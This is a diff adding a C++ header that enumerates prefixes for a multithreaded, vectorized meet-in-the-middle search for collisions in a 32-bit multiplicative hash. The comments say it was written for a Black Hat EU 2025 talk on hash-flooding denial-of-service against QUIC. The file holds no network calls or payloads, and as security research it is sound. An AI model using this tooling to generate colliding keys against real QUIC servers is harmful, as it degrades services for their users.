@@ -0,0 +1,250 @@
+// prefix_enumerator.h
+// Systematic enumeration of the MITM prefixes with incremental, vectorized forward hashing
+// Author: Paul Bottinelli
+// For Black Hat EU 2025 - Cut to the QUIC: Slashing QUIC's Performance with a Hash DoS
+//
+// generic_mitm.py draws every prefix at random and hashes it from the initial value, which
+// costs prefix_size multiply-adds per try and eventually repeats prefixes. Here prefixes are
+// enumerated in mixed-radix counter order over the prefix alphabets (last position least
+// significant), and the forward state after each leading position is cached: a carry into
+// position i recomputes the states from i on. No prefix is produced twice.
+//
+// The trailing positions are not hashed at all: their contribution sum(c_i * M^(n-1-i)) is
+// tabulated once for every combination of their bytes, at most MAX_TAIL of them, so the
+// hashes of consecutive prefixes are base + tail[k] for consecutive k, where base only
+// changes on a carry out of the tail. Hashes are produced 16 (AVX-512) or 8 (AVX2) at a time
+// straight into the caller's probe batch, and a prefix is only spelled out for the hits.
+//
+// A PrefixRange splits the enumeration into chunks of consecutive indices, handed out to
+// the search threads from a random start; its resume index continues a stopped run
+// without repeating any prefix.
+
+#pragma once
+
+#include <algorithm>
+#include <atomic>
+#include <cstdint>
+#include <vector>
+#if defined(__AVX2__) || defined(__AVX512F__)
+#include <immintrin.h>
+#endif
+#include "charset.h"
+#include "multiplicative_hash.h"
+
+// Enumerates the prefixes of a 32-bit hash
+class PrefixEnumerator {
+public:
+    // Indices are kept below 2^63: when the alphabets allow more prefixes, only the trailing
+    // positions are enumerated and the leading ones keep their first allowed byte
+    static constexpr uint64_t MAX_COUNT = uint64_t(1) << 63;
+    // Byte combinations of the tabulated trailing positions: 16 KB of hashes, in L1
+    static constexpr size_t MAX_TAIL = 4096;
+
+    PrefixEnumerator(const MultiplicativeHash& hash, const CharsetSpec& spec)
+        : hash_(hash), spec_(spec), length_(spec.length()), digits_(length_, 0),
+          bytes_(length_), states_(length_ + 1) {
+        first_ = length_;
+        count_ = 1;
+        while (first_ > 0 && count_ <= MAX_COUNT / spec_[first_ - 1].size()) {
+            count_ *= spec_[first_ - 1].size();
+            --first_;
+        }
+        split_ = length_;
+        tail_count_ = 1;
+        while (split_ > first_ && tail_count_ * spec_[split_ - 1].size() <= MAX_TAIL) {
+            tail_count_ *= spec_[split_ - 1].size();
+            --split_;
+        }
+        const CharsetSpec tail_spec = spec_.slice(split_, length_);
+        std::vector<uint8_t> tail_bytes(length_ - split_);
+        tail_.resize(tail_count_);
+        for (size_t k = 0; k < tail_count_; ++k) {
+            tail_spec.decode(k, tail_bytes.data());
+            tail_[k] = static_cast<uint32_t>(hash_.forward(0, tail_bytes.data(), tail_bytes.size()));
+        }
+        tail_power_ = static_cast<uint32_t>(hash_.power(length_ - split_));
+        for (size_t i = 0; i < length_; ++i) {
+            bytes_[i] = spec_[i][0];
+        }
+        seek(0);
+    }
+
+    // Number of distinct prefixes enumerated
+    uint64_t count() const noexcept { return count_; }
+    uint64_t index() const noexcept { return index_; }
+
+    // Prefix of the given index, spelled out from its digits
+    void prefix(uint64_t index, uint8_t* out) const noexcept { spec_.decode(index % count_, out); }
+    void prefix(uint8_t* out) const noexcept { prefix(index_, out); }
+
+    // Forward hash of the current prefix
+    uint32_t hash() const noexcept { return base_ + tail_[inner_]; }
+
+    void seek(uint64_t index) noexcept {
+        index_ = index % count_;
+        inner_ = index_ % tail_count_;
+        uint64_t rest = index_ / tail_count_;
+        for (size_t i = split_; i-- > first_;) {
+            const size_t radix = spec_[i].size();
+            digits_[i] = rest % radix;
+            bytes_[i] = spec_[i][digits_[i]];
+            rest /= radix;
+        }
+        update_states(0);
+    }
+
+    // Move to the next index, wrapping around to 0 after count() - 1
+    void next() noexcept {
+        index_ = index_ + 1 == count_ ? 0 : index_ + 1;
+        if (++inner_ == tail_count_) {
+            carry();
+        }
+    }
+
+    // Write the hashes of up to n prefixes from the current one to out, and move past them.
+    // Stops at the end of the tail table, returns the number of hashes written.
+    size_t hashes(uint32_t* out, size_t n) noexcept {
+        n = std::min(n, tail_count_ - inner_);
+        add_base(base_, &tail_[inner_], out, n);
+        index_ = (index_ + n) % count_;
+        inner_ += n;
+        if (inner_ == tail_count_) {
+            carry();
+        }
+        return n;
+    }
+
+private:
+    MultiplicativeHash hash_;
+    CharsetSpec spec_;
+    size_t length_;
+    size_t first_;  // first enumerated position
+    size_t split_;  // first tabulated position
+    uint64_t count_;
+    uint64_t index_ = 0;
+    std::vector<size_t> digits_;
+    std::vector<uint8_t> bytes_;
+    std::vector<uint64_t> states_;  // states_[i]: forward state after the first i bytes
+    std::vector<uint32_t> tail_;    // contribution of the bytes from split_ on, by their index
+    size_t tail_count_;
+    size_t inner_ = 0;              // index into tail_
+    uint32_t tail_power_;           // M^(length - split)
+    uint32_t base_ = 0;             // states_[split_] * M^(length - split)
+
+    // The tail wrapped around: increment the positions before it
+    void carry() noexcept {
+        inner_ = 0;
+        for (size_t i = split_; i-- > first_;) {
+            if (++digits_[i] != spec_[i].size()) {
+                bytes_[i] = spec_[i][digits_[i]];
+                update_states(i);
+                return;
+            }
+            digits_[i] = 0;
+            bytes_[i] = spec_[i][0];
+        }
+        update_states(first_);
+    }
+
+    void update_states(size_t from) noexcept {
+        states_[0] = hash_.initial_value();
+        for (size_t i = from; i < split_; ++i) {
+            states_[i + 1] = hash_.forward(states_[i], &bytes_[i], 1);
+        }
+        base_ = static_cast<uint32_t>(states_[split_]) * tail_power_;
+    }
+
+    static void add_base(uint32_t base, const uint32_t* tail, uint32_t* out, size_t n) noexcept {
+        size_t i = 0;
+#ifdef __AVX512F__
+        const __m512i base16 = _mm512_set1_epi32(static_cast<int>(base));
+        for (; i + 16 <= n; i += 16) {
+            _mm512_storeu_si512(out + i, _mm512_add_epi32(base16, _mm512_loadu_si512(tail + i)));
+        }
+#endif
+#ifdef __AVX2__
+        const __m256i base8 = _mm256_set1_epi32(static_cast<int>(base));
+        for (; i + 8 <= n; i += 8) {
+            const __m256i t = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(tail + i));
+            _mm256_storeu_si256(reinterpret_cast<__m256i*>(out + i), _mm256_add_epi32(base8, t));
+        }
+#endif
+        for (; i < n; ++i) {
+            out[i] = base + tail[i];
+        }
+    }
+};
+
+// Shared cursor handing out disjoint chunks of prefix indices [start, start + count), modulo
+// count, until all of them have been claimed. With a size, only the first size of them,
+// e.g. one lease of a distributed run.
+class PrefixRange {
+public:
+    static constexpr uint64_t CHUNK = uint64_t(1) << 16;
+
+    PrefixRange(uint64_t count, uint64_t start)
+        : count_(count), start_(start % count), limit_(count) {}
+
+    PrefixRange(uint64_t count, uint64_t start, uint64_t size)
+        : count_(count), start_(start % count), limit_(std::min(size, count)) {}
+
+    // Claim the next chunk, returns false once the prefix space is exhausted
+    bool claim(uint64_t& first, uint64_t& size) noexcept {
+        const uint64_t offset = claimed_.fetch_add(CHUNK);
+        if (offset >= limit_) {
+            return false;
+        }
+        first = (start_ + offset) % count_;
+        size = std::min(CHUNK, limit_ - offset);
+        return true;
+    }
+
+    uint64_t count() const noexcept { return count_; }
+    uint64_t start() const noexcept { return start_; }
+
+    // Hand out no more chunks: the searches on the range end with their current chunk
+    void close() noexcept { claimed_.store(limit_); }
+
+    // Prefixes in chunks claimed so far, a chunk being in use or not
+    uint64_t claimed() const noexcept { return std::min(claimed_.load(), limit_); }
+
+    // Start index of a later run continuing this one. Prefixes left in the chunks
+    // that were claimed last are skipped, never repeated.
+    uint64_t resume_index() const noexcept { return (start_ + claimed()) % count_; }
+
+private:
+    uint64_t count_;
+    uint64_t start_;
+    uint64_t limit_;   // prefixes to claim
+    std::atomic<uint64_t> claimed_{0};
+};
+
+// A thread's view of a PrefixRange: batches of consecutive prefixes of the chunks it claims
+class PrefixStream {
+public:
+    PrefixStream(const MultiplicativeHash& hash, const CharsetSpec& spec, PrefixRange& range)
+        : range_(range), enumerator_(hash, spec) {}
+
+    // Write the forward hashes of up to n prefixes, of indices first, first + 1, ..., to
+    // hashes and return how many. Returns 0 once the range is exhausted.
+    size_t next(uint32_t* hashes, size_t n, uint64_t& first) noexcept {
+        if (remaining_ == 0) {
+            uint64_t start;
+            if (!range_.claim(start, remaining_)) {
+                return 0;
+            }
+            enumerator_.seek(start);
+        }
+        first = enumerator_.index();
+        n = enumerator_.hashes(hashes, std::min<uint64_t>(n, remaining_));
+        remaining_ -= n;
+        return n;
+    }
+
+    void prefix(uint64_t index, uint8_t* out) const noexcept { enumerator_.prefix(index, out); }
+
+private:
+    PrefixRange& range_;
+    PrefixEnumerator enumerator_;
+    uint64_t remaining_ = 0;
+};